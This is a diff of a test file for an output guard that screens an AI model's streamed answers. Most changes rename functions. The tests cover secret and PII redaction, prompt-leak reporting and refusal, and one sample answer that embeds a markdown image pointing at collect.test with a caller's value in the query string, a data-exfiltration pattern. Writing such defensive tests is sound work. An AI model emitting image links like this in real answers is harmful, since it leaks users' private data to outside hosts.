@@ -3,9 +3,9 @@ import { Fault } from "@trunkline/core/fault.ts";
 import type { Verdict } from "@trunkline/core/verdict.ts";
 import { asked } from "@trunkline/testing/asked.ts";
 import { describe, expect, it } from "vitest";
-import { guardOf } from "../policy/guard.ts";
-import { BALANCED, policyOf, type SafetyPolicy } from "../policy/policy.ts";
-import { Vault } from "../private-data/vault.ts";
+import { createGuard } from "../policy/guard.ts";
+import { BALANCED, policyFromPreset, type SafetyPolicy } from "../policy/policy.ts";
+import { Redactions } from "../private-data/vault.ts";
 import { ruleDetector } from "../rules/rule-detector.ts";
 import type { AnswerContext } from "./answer-context.ts";
 import { screenOutput } from "./screen-output.ts";
@@ -21,7 +21,7 @@ async function screen(context: AnswerContext, source: readonly Part[], policy: S
     yield* source;
   }
   try {
-    for await (const part of screenOutput(guardOf(ruleDetector, policy), context, stream(), (made) => {
+    for await (const part of screenOutput(createGuard(ruleDetector, policy), context, stream(), (made) => {
       verdict = made;
     }))
       parts.push(part);
@@ -65,7 +65,7 @@ describe("a call of a tool", () => {
     const { parts, verdict } = await screen(
       asked(),
       [call("pay")],
-      policyOf("balanced", { injection: "report" }),
+      policyFromPreset("balanced", { injection: "report" }),
     );
     expect(parts).toEqual([call("pay")]);
     expect(verdict?.action).toBe("report");
@@ -106,7 +106,7 @@ describe("the likelihoods of words", () => {
   });
 
   it("go with what was taken out of the words", async () => {
-    const policy = policyOf("balanced", { secret: "redact" });
+    const policy = policyFromPreset("balanced", { secret: "redact" });
     const { parts, text: words } = await screen(
       asked(),
       [
@@ -138,7 +138,7 @@ describe("what is said beside a picture", () => {
 });
 
 describe("values that are to be taken out", () => {
-  const policy = policyOf("balanced", { secret: "redact", pii: "redact" });
+  const policy = policyFromPreset("balanced", { secret: "redact", pii: "redact" });
   const answer = `The key is ${SECRET}, and the mail goes to jo@firma.de. All the rest is as it was before, I think.`;
 
   it("never leave, in whatever pieces they come, and all else does", async () => {
@@ -153,9 +153,9 @@ describe("values that are to be taken out", () => {
   });
 
   it("stay where they are the caller's own", async () => {
-    const vault = new Vault();
-    vault.placeholderFor("email", "jo@firma.de");
-    const { text: words } = await screen(asked({ vault }), [text(answer)], policy);
+    const redactions = new Redactions();
+    redactions.assignPlaceholder("email", "jo@firma.de");
+    const { text: words } = await screen(asked({ redactions }), [text(answer)], policy);
     expect(words).toContain("jo@firma.de");
     expect(words).not.toContain(SECRET);
   });
@@ -224,12 +224,12 @@ it("a picture that carries words of the request away never gets its address out"
 });
 
 it("nor does one into which a value of the caller's would be put back", async () => {
-  const vault = new Vault();
-  const placeholder = vault.placeholderFor("email", "jo@firma.de");
+  const redactions = new Redactions();
+  const placeholder = redactions.assignPlaceholder("email", "jo@firma.de");
   const loads = `Done. ![](https://collect.test/p.png?d=${placeholder}) Anything else?`;
-  expect((await screen(asked({ vault }), letters(loads))).fault?.type).toBe("unsafe_output");
+  expect((await screen(asked({ redactions }), letters(loads))).fault?.type).toBe("unsafe_output");
   expect(
-    (await screen(asked({ vault }), letters(`Done. It is ${placeholder}, of course.`))).fault,
+    (await screen(asked({ redactions }), letters(`Done. It is ${placeholder}, of course.`))).fault,
   ).toBeUndefined();
 });
 
@@ -244,7 +244,11 @@ it("an answer that repeats the prompt is reported, and refused where the operato
   expect(reported.verdict?.spans.map(({ start, end }) => answer.slice(start, end))).toEqual([
     "the night porter keeps the spare key under the third stone of the wall",
   ]);
-  const refused = await screen(context, letters(answer), policyOf("balanced", { injection: "refuse" }));
+  const refused = await screen(
+    context,
+    letters(answer),
+    policyFromPreset("balanced", { injection: "refuse" }),
+  );
   expect(refused.fault?.type).toBe("unsafe_output");
   const thought = await screen(context, [{ type: "thinking", text: answer }]);
   expect(thought.verdict?.action).toBe("allow");
@@ -266,7 +270,7 @@ it("a provider that can't be hung up on does not hide the refusal, nor its verdi
       return: () => Promise.reject(new Error("The line can't be closed.")),
     }),
   };
-  const screened = screenOutput(guardOf(ruleDetector, BALANCED), asked(), stubborn, (verdict) =>
+  const screened = screenOutput(createGuard(ruleDetector, BALANCED), asked(), stubborn, (verdict) =>
     verdicts.push(verdict),
   );
   await expect(screened.next()).rejects.toMatchObject({ type: "unsafe_output" });
